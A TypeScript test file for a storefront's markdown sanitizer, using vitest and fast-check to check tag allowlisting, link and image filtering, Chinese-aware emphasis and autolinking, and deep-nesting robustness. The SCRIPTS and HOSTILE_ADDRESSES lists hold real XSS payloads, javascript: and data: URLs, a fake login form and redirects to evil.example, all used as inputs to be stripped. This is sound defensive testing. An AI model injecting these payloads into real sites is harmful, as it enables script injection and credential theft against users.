import fc from "fast-check";
import { marked } from "marked";
import { expect, test } from "vitest";
import { htmlOf } from "~server/markup/markdown";
import { safeMarkdown } from "~server/markup/markup";
import { tagsBeside } from "../../support/allowed-tags";
import { anyText } from "../../support/any-text";
import { withEnv } from "../../support/environment";
import { attributesOf, only as onlyOf } from "../../support/html";
import { pictureOf } from "../../support/picture-address";
import { runsOf } from "@storefront/test-support/sample";

const notAllowed = tagsBeside([
  /<(?:p|hr|h3|h4|ul|ol|li|blockquote|pre|code|strong|em|b|i|u|s|sub|sup|table|thead|tbody|tr|th|td)>/,
  /<\/(?:p|h3|h4|ul|ol|li|blockquote|pre|code|strong|em|b|i|u|s|sub|sup|table|thead|tbody|tr|th|td)>/,
]);

const SCRIPTS = [
  `<script>alert(1)</script>`,
  `<ScRiPt src=https://evil.example/x.js></sCrIpT>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<img src=x onerror=alert(1)>`,
  `<img src="https://cdn.example/a.png" onerror="alert(1)" style="position:fixed">`,
  `<p onclick="alert(1)" style="display:none" id="main" class="sheet">x</p>`,
  `<svg onload=alert(1)><script>alert(1)</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<textarea><img src=x onerror=alert(1)></textarea>`,
  `<a href="https://a.example" target="_blank" onmouseover="alert(1)">x</a>`,
  `<style>body{display:none}</style><link rel=stylesheet href=//evil.example>`,
  `<iframe src="https://evil.example"></iframe><object data=x></object><embed src=x>`,
  `<form action="https://evil.example"><input name=loginPword><button>Pay</button></form>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example">`,
  `<!--[if IE]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(1)</script>]]>`,
  `"><script>alert(1)</script>`,
];

test.each(SCRIPTS)("scripts, frames, styles and forms are removed: %s", (markdown) => {
  for (const text of [
    markdown,
    `a\n\n${markdown}\n\nb`,
    `- ${markdown}`,
    `> ${markdown}`,
    `| a |\n| - |\n| ${markdown} |`,
  ]) {
    expect(notAllowed(safeMarkdown(text)), text).toEqual([]);
  }
});

const HOSTILE_ADDRESSES = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "&#106;avascript:alert(1)",
  "java&Tab;script:alert(1)",
  "\u0001javascript:alert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:image/svg+xml;base64,PHN2Zz4=",
  "blob:https://evil.example/x",
  "file:///etc/passwd",
  "//evil.example/x",
  "/\\evil.example/x",
  "\\\\evil.example/x",
  "/%2fevil.example",
  "/.//evil.example",
  "https://user:secret@evil.example/",
];

test.each(HOSTILE_ADDRESSES)("links and pictures cannot point to %s", (address) => {
  const markdown = `[words](<${address}>) <a href="${address}">words</a> ![seen](<${address}>) <img src="${address}" alt="seen">`;
  const html = safeMarkdown(markdown);
  expect(html).not.toMatch(/<(?:a|img)\b/);
  expect(html).toContain("words");
});

test("a link may point to the web, a mailbox or a page of this site, and sends no referrer", () => {
  const rel = 'rel="noopener noreferrer nofollow"';
  expect(safeMarkdown("[more](https://docs.example/a?b=1&c=2)")).toContain(
    `<a href="https://docs.example/a?b=1&amp;c=2" rel="external noopener noreferrer nofollow">more</a>`,
  );
  expect(safeMarkdown("[write](mailto:sales@example.com)")).toContain(`<a href="mailto:sales@example.com" ${rel}>`);
  expect(safeMarkdown("[power](/Index/Power?page=2#item-6)")).toContain(
    `<a href="/Index/Power?page=2#item-6" ${rel}>power</a>`,
  );
  expect(safeMarkdown('<a href="/Index/Home">home</a>')).toContain(`<a href="/Index/Home" ${rel}>home</a>`);
});

test("a link with a relative path is shown as text, since its base is unknown", () => {
  for (const address of ["Index/Power", "../x", "#part", "?a=b", ""]) {
    expect(safeMarkdown(`[words](<${address}>)`), address).toBe("<p>words</p>\n");
  }
});

/** The attributes of the only picture, with its signed addresses decoded. */
function imageOf(html: string) {
  const { src, srcset, ...attributes } = onlyOf(html, "img").attr() ?? {};
  const sizes = srcset?.split(/,\s*/).map((one) => one.replace(/^\S+/, (path) => String(pictureOf(path))));
  return { ...attributes, src: pictureOf(src), ...(sizes ? { srcset: sizes } : {}) };
}

test("with IMAGE_PROXY=off a picture in a text keeps its URL", async () => {
  await withEnv({ IMAGE_PROXY: "off" }, () =>
    expect(safeMarkdown('<img src="https://cdn.example/off.png" alt="A" width="320" height="200">')).toBe(
      '<img src="https://cdn.example/off.png" alt="A" width="320" height="200" loading="lazy" />',
    ),
  );
});

test("a picture loads over https; a path is resolved against the upstream", () => {
  const only = (markdown: string) => imageOf(safeMarkdown(markdown));
  const cdn = "t1080 https://cdn.example/a.png";
  const shown = { alt: "A rack", loading: "lazy" };
  expect(only('<img src="https://cdn.example/a.png" alt="A rack" width="320" height="200">')).toEqual({
    ...shown,
    src: cdn,
    width: "320",
    height: "200",
    sizes: "(max-width:320px) 92vw,320px",
    srcset: ["360", "720", "1080"].map((size) => `t${size} https://cdn.example/a.png ${size}w`),
  });
  const rack = { ...shown, src: "t1080 http://127.0.0.1:9/images/rack.svg" };
  expect(only("![A rack](http://127.0.0.1:9/images/rack.svg)"), "original width: one size").toEqual(rack);
  expect(safeMarkdown("![](https://cdn.example/a.png)")).toContain(' alt=""');
  const plain = { src: cdn, alt: "", loading: "lazy" };
  expect(only('<img src="https://cdn.example/a.png" width="100%" height="9e9">')).toEqual(plain);
  for (const path of ["/images/rack.svg", "images/rack.svg"]) {
    expect(only(`![A rack](${path})`), path).toEqual(rack);
  }
  expect(safeMarkdown("![A rack](#rack)")).not.toContain("<img");
});

test("markdown becomes lower headings, lists, emphasis, tables, code and line breaks", () => {
  const html = safeMarkdown(
    "# One\n## Two\n### Three\n##### Five\n\n**bold** *soft* `a < b`\nnext\n\n- x\n\n1. y\n\n> q\n\n| a | b |\n| - | - |\n| 1 | 2 |\n",
  );
  expect(html).toContain("<h3>One</h3>\n<h3>Two</h3>\n<h4>Three</h4>\n<h4>Five</h4>");
  expect(html).toContain("<p><strong>bold</strong> <em>soft</em> <code>a &lt; b</code><br />next</p>");
  expect(html).toContain("<ul>\n<li>x</li>\n</ul>");
  expect(html).toContain("<ol>\n<li>y</li>\n</ol>");
  expect(html).toContain("<blockquote>\n<p>q</p>\n</blockquote>");
  expect(html).toContain("<tr>\n<td>1</td>\n<td>2</td>\n</tr>");
  expect(notAllowed(html)).toEqual([]);
});

test.each([
  ["**注意：**正文", "<strong>注意：</strong>正文"],
  ["請在**「設定」**中開啟", "請在<strong>「設定」</strong>中開啟"],
  ["年化**32.5%**的收益", "年化<strong>32.5%</strong>的收益"],
  ["支付**(USDT)**即可", "支付<strong>(USDT)</strong>即可"],
  ["使用API**設定**頁", "使用API<strong>設定</strong>頁"],
  ["*「斜體」*字", "<em>「斜體」</em>字"],
  ["~~「舊價」~~新價", "<s>「舊價」</s>新價"],
  ["**注意：** 正文", "<strong>注意：</strong> 正文"],
  ["3 * 4，5 * 6", "3 * 4，5 * 6"],
])("emphasis may end next to Chinese, which has no spaces: %s", (markdown, html) => {
  expect(safeMarkdown(markdown)).toContain(`<p>${html}</p>`);
});

test.each(["每日 5~7 U，週期 100~200 天", "about 5~7 U for 100~200 days", "～5 ~6~ 7", "A~B~C~D"])(
  "a single tilde, as between two numbers, is not strikethrough: %s",
  (markdown) => {
    expect(safeMarkdown(markdown)).toContain(`<p>${markdown}</p>`);
    expect(safeMarkdown(`~~${markdown}~~`)).toContain(`<p><s>${markdown}</s></p>`);
  },
);

test.each([
  ["請看https://a.example/b，謝謝。", "https://a.example/b"],
  ["（見 https://a.example/b?c=1）", "https://a.example/b?c=1"],
  ["見“https://a.example/b”。", "https://a.example/b"],
  ["‘https://a.example/b’即可", "https://a.example/b"],
  ["https://a.example/b……", "https://a.example/b"],
  ["https://a.example/b——官方網站", "https://a.example/b"],
  ["https://a.example/約翰·塞爾", "https://a.example/%E7%B4%84%E7%BF%B0%C2%B7%E5%A1%9E%E7%88%BE"],
  ["https://a.example/雲端 ", "https://a.example/%E9%9B%B2%E7%AB%AF"],
  ["請見https://a.example/b了解更多", "https://a.example/b"],
  ["請見https://a.example了解更多", "https://a.example/"],
  ["請見 www.a.example了解更多", "http://www.a.example/"],
  ["https://a.example/b?c=1的說明", "https://a.example/b?c=1"],
  ["(https://a.example/b)的說明", "https://a.example/b"],
  ["https://a.example/b﹐https", "https://a.example/b"],
  ["https://a.example/?q=雲端A算力", "https://a.example/?q=%E9%9B%B2%E7%AB%AFA%E7%AE%97%E5%8A%9B"],
  ["https://a.example/S19_礦機", "https://a.example/S19_%E7%A4%A6%E6%A9%9F"],
])("a bare URL ends before Chinese punctuation or text: %s", (markdown, href) => {
  expect(attributesOf(safeMarkdown(markdown), "a", "href")).toEqual([href]);
});

test("text without Chinese follows CommonMark", () => {
  const marks = fc.constantFrom(
    ...["*", "**", "***", "_", "~~", "a", "1", " ", '"', "(", ")", ":", "%", "\n", "é", "“"],
  );
  const texts = fc.array(marks, { maxLength: 30 }).map((parts) => parts.join(""));
  fc.assert(
    fc.property(texts, (text) => {
      expect(htmlOf(text)).toBe(marked.parse(text, { gfm: true, breaks: true, async: false }));
    }),
    { numRuns: runsOf(2_000) },
  );
});

const TOO_DEEP = {
  quotations: ">".repeat(19_000),
  "spaced quotations": "> ".repeat(9_000),
  "bold in bold": "<b>".repeat(6_000),
  "lists in lists": Array.from({ length: 180 }, (_, depth) => `${" ".repeat(depth * 2)}- a`).join("\n"),
  "brackets in brackets": "[".repeat(9_000) + "a" + "](b)".repeat(2_000),
};

test.each(Object.entries(TOO_DEEP))("a text nested too deeply breaks nothing: %s", (_, markdown) => {
  expect(notAllowed(safeMarkdown(markdown))).toEqual([]);
});

test("a text too long for markdown is shown as plain text", () => {
  const html = safeMarkdown(`**bold**\n<script>alert(1)</script> a & b\n${"x".repeat(20_000)}`);
  expect(html).toMatch(/^<p>\*\*bold\*\*<br \/>&lt;script&gt;alert\(1\)&lt;\/script&gt; a &amp; b<br \/>x+<\/p>$/);
});

test("whatever the upstream sends, the output contains only the allowlist", () => {
  const pieces = fc.oneof(
    fc.constantFrom(...SCRIPTS, ...HOSTILE_ADDRESSES),
    fc.constantFrom(...["\n", "\n\n", "\t", "\0", "`"], ...`< > " ' = / \\ &# ; &quot; <!-- -->`.split(" ")),
    fc.constantFrom(
      "[a](",
      "![a](",
      ")",
      "<a href=",
      "<img src=",
      "<b",
      "</p",
      " on",
      "x=",
      "[x]: ",
      "- ",
      "> ",
      "```",
      "|",
    ),
    fc.string(),
    anyText(12),
  );
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 14 }), (parts) => {
      expect(notAllowed(safeMarkdown(parts.join("")))).toEqual([]);
    }),
    { numRuns: runsOf(1500) },
  );
});
